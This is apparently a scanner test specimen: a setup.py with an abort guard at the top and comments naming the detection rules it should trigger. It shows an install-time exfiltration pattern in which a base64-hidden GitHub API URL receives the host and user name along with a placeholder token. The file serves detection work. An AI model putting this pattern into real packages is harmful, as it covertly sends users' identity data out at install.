raise SystemExit("specimen: not to be run")
import base64
import socket
import getpass
import urllib.request as u
from setuptools import setup

where = base64.b64decode("aHR0cHM6Ly9hcGkuZ2l0aHViLmNvbS9yZXBvcy9zcGVjaW1lbi9zcGVjaW1lbi9pc3N1ZXM=").decode()
what = {"t": socket.gethostname() + getpass.getuser()}
u.urlopen(u.Request(where, data=what, headers={"Authorization": "token ghp_specimenspecimenspecimenspecimen0000"}))  # match: code-host-upload  # match: identity-sent  # match: network-at-install
setup(name="specimen")
